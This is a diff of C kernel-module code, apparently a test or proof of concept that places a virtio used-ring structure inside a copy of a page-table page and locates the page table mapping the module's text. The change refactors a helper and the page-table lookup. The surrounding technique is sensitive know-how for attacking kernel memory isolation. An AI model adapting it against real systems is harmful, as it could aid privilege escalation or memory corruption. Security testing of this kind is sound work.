@@ -142,17 +142,6 @@ static bool ring_works(void)
 	return works;
 }
 
-/* Words that are zero, from the end: the first ones of a page are used more often. */
-static unsigned int zero_words(const u64 *page)
-{
-	unsigned int i;
-
-	for (i = PTRS_PER_PTE - WORDS; i > 0; i--)
-		if (!memchr_inv(page + i, 0, WORDS * sizeof(u64)))
-			break;
-	return i;
-}
-
 static void clear_words(u64 frame, u64 first)
 {
 	unsigned int i;
@@ -166,7 +155,7 @@ static void clear_words(u64 frame, u64 first)
 static void attack(u64 frame, u64 *copy, void (*look)(u64 frame, u64 *page))
 {
 	u64 *page = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
-	unsigned int i = zero_words(copy);
+	unsigned int i = zero_words(copy, WORDS);
 	const struct vring_used *used = (void *)(page + i);
 
 	if (ring_works()) {
@@ -194,10 +183,9 @@ static void look_here(u64 frame, u64 *page)
 	memcpy(page, __va(frame), PAGE_SIZE);
 }
 
-/* A table of level 3: the one that maps this module's text. */
 static void table(void)
 {
-	u64 frame = PAGE_OF(walk_to(kernel_root(), scratch(0), 3).entry);
+	u64 frame = table_frame();
 	u64 *copy;
 
 	if (!disk_works() || !open_function())
